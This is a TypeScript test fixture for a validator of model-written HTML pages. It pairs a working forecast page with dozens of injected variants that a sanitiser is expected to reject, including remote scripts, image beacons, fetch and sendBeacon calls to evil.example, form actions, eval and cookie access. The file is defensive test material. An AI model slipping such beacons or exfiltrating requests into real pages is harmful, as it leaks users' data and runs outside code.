// Freeform pages as models write them, for a tool `forecast {place, days?}` whose result has `days: [{date, high}]`.

/** A page that works: a form, a chart and a table. */
export const GOOD_PAGE = `<!doctype html>
<html lang="en">
<head>
<title>Forecast</title>
<style>
  main { padding: 16px; display: grid; gap: 12px; }
  form { display: flex; gap: 8px; align-items: end; flex-wrap: wrap; }
  label { display: grid; gap: 4px; }
  .error { color: var(--bad); }
  svg { width: 100%; height: 120px; }
  svg rect { fill: var(--ring); }
</style>
</head>
<body>
<main>
  <h1>Forecast</h1>
  <form>
    <label>Place <input name="place" required></label>
    <label>Days <input name="days" type="number" min="1" max="14"></label>
    <button type="button" data-run>Show the forecast</button>
  </form>
  <section id="out" aria-live="polite"><p>Choose a place.</p></section>
</main>
<script>
  const form = document.querySelector('form');
  const out = document.getElementById('out');
  const control = name => form.querySelector('[name="' + name + '"]');
  function show(result) {
    out.textContent = '';
    if (result.isError) {
      out.append(app.element('p', { class: 'error', role: 'alert' }, result.text));
      return;
    }
    const days = result.data?.days ?? [];
    const most = Math.max(1, ...days.map(day => day.high));
    const bars = days.map((day, at) =>
      app.element('rect', { x: at * 20, y: 100 - (day.high / most) * 100, width: 16, height: (day.high / most) * 100 }));
    const rows = days.map(day =>
      app.element('tr', {}, app.element('td', {}, day.date), app.element('td', {}, String(day.high))));
    out.append(
      app.element('svg', { viewBox: '0 0 ' + Math.max(20, days.length * 20) + ' 100', role: 'img', 'aria-label': 'Highs of each day' }, ...bars),
      app.element('table', {},
        app.element('thead', {}, app.element('tr', {}, app.element('th', {}, 'Date'), app.element('th', {}, 'High'))),
        app.element('tbody', {}, ...rows)));
  }
  app.onInput(input => {
    control('place').value = input.place ?? '';
    control('days').value = input.days ?? '';
  });
  app.onResult(show);
  form.querySelector('[data-run]').addEventListener('click', () => {
    const days = control('days').value;
    app.run({ place: control('place').value, ...(days === '' ? {} : { days: Number(days) }) });
  });
</script>
</body>
</html>`;

/** The same page with one line replaced. */
export const withLine = (before: string, after: string): string => {
  if (!GOOD_PAGE.includes(before)) throw new Error(`The page has no ${before}`);
  return GOOD_PAGE.replace(before, () => after);
};
const inScript = (code: string): string =>
  withLine("const out = document.getElementById('out');", `const out = document.getElementById('out'); ${code}`);
const inBody = (markup: string): string => withLine('<h1>Forecast</h1>', `<h1>Forecast</h1>${markup}`);
const inHead = (markup: string): string => withLine('<title>Forecast</title>', `<title>Forecast</title>${markup}`);
const inStyle = (css: string): string => withLine('main { padding: 16px;', `${css} main { padding: 16px;`);

/** Pages with something that cannot work in a page, and what the refusal names. */
export const FAULTY_PAGES: Readonly<Record<string, readonly [page: string, reason: RegExp]>> = {
  'a script from an address': [inHead('<script src="https://evil.example/x.js"></script>'), /line 4: <script src>/],
  'an image beacon': [inBody('<img alt="" src="https://evil.example/b.png">'), /line 16: <img src>/],
  'an SVG image as a beacon': [inBody('<svg><image href="https://evil.example/b"/></svg>'), /<image href>/],
  'a set of images': [inBody('<img alt="" srcset="https://evil.example/b 2x">'), /attribute srcset of <img>/],
  'a style sheet': [inHead('<link rel="stylesheet" href="https://evil.example/x.css">'), /<link> is not allowed/],
  'an imported style': [inStyle('@import "https://evil.example/x.css";'), /line 6: @import/],
  'an escaped import': [inStyle('@\\69mport "https://evil.example/x.css";'), /line 6: @import/],
  'an image of a style': [inStyle('h1{background:url(https://evil.example/b)}'), /line 6: url\(https:/],
  'a set of images of a style': [inStyle('h1{background:image-set("https://evil.example/b" 1x)}'), /image-set\(\)/],
  'a font': [inStyle('@font-face{font-family:x;src:url(https://evil.example/f)}'), /url\(https:/],
  'a style attribute that loads': [inBody('<p style="background:url(https://evil.example/b)">x</p>'), /style of <p>/],
  'a base address': [inHead('<base href="https://evil.example/">'), /<base> is not allowed: it changes/],
  'a frame': [inBody('<iframe src="https://evil.example/"></iframe>'), /<iframe> is not allowed: a page has no frames/],
  'an object': [inBody('<object data="https://evil.example/"></object>'), /<object> is not allowed/],
  'an embedded page': [inBody('<embed src="https://evil.example/">'), /<embed> is not allowed/],
  'an inline handler': [inBody('<img alt="" src="x" onerror="app.run({})">'), /inline handler onerror of <img>/],
  'a handler of a drawing': [inBody('<svg onload="app.run({})"></svg>'), /inline handler onload of <svg>/],
  'a link that is a script': [
    inBody('<a href="javascript:app.run({})">x</a>'),
    /<a href> may only hold a whole address/,
  ],
  'a link to a file of a site': [inBody('<a href="/help.html">x</a>'), /<a href> may only hold a whole address/],
  'a form that is sent': [withLine('<form>', '<form action="https://evil.example/">'), /attribute action of <form>/],
  'a button that sends a form': [
    withLine('data-run>Show', 'data-run formaction="https://evil.example/">Show'),
    /attribute formaction of <button>/,
  ],
  'an import map': [inHead('<script type="importmap">{"imports":{}}</script>'), /<script type="importmap">/],
  eval: [inScript('eval("app.run({})");'), /line 26: eval is not allowed: it turns text into code/],
  'the constructor of functions': [inScript('new Function("app.run({})")();'), /Function is not allowed/],
  'a timer with a text': [inScript('setTimeout("app.run({})", 1);'), /setTimeout with a text/],
  'a loaded module': [inScript('import("https://evil.example/x.js");'), /import\(\) is not allowed/],
  'an imported module': [
    withLine('<script>', '<script type="module">import x from "https://evil.example/x.js";'),
    /import and export are not allowed/,
  ],
  'a request': [inScript('fetch("https://evil.example/", {method:"POST"});'), /fetch is not allowed: a page loads/],
  'a request by way of the window': [
    inScript('window.fetch("https://evil.example/");'),
    /window\.fetch is not allowed/,
  ],
  'a beacon': [inScript('navigator.sendBeacon("https://evil.example/");'), /navigator\.sendBeacon is not allowed/],
  'an address that is set': [inScript('location.href = "https://evil.example/";'), /location is not allowed/],
  'an address of the document': [inScript('document.location = "https://evil.example/";'), /document\.location/],
  'an opened window': [inScript('open("https://evil.example/");'), /open is not allowed/],
  'the window around it': [inScript('parent.postMessage({}, "*");'), /parent is not allowed/],
  'markup of a result': [inScript('app.onResult(r => { out.innerHTML = r.text; });'), /innerHTML may only be set/],
  'markup of a result in a text': [
    inScript('app.onResult(r => { out.innerHTML += "<p>" + r.text; });'),
    /innerHTML may only be set/,
  ],
  'markup beside an element': [
    inScript('app.onResult(r => out.insertAdjacentHTML("beforeend", r.text));'),
    /insertAdjacentHTML may only be given/,
  ],
  'a written document': [inScript('document.write("<p>");'), /document\.write is not allowed/],
  'kept values': [inScript('localStorage.setItem("a", "b");'), /localStorage is not allowed: a page keeps nothing/],
  'a cookie': [inScript('document.cookie = "a=b";'), /document\.cookie is not allowed/],
  'a dialog of the browser': [inScript('alert("done");'), /alert is not allowed: dialogs of the browser are blocked/],
  'ten thousand elements deep': [inBody('<div>'.repeat(10_000)), /nested too deep/],
  'a script nested deep': [
    inScript(`const deep = ${'['.repeat(20_000)}${']'.repeat(20_000)};`),
    /nested too deep|stack space/,
  ],
  'a megabyte': [inBody(`<p>${'x'.repeat(1_000_000)}</p>`), /The page has 10\d{5} bytes/],
};
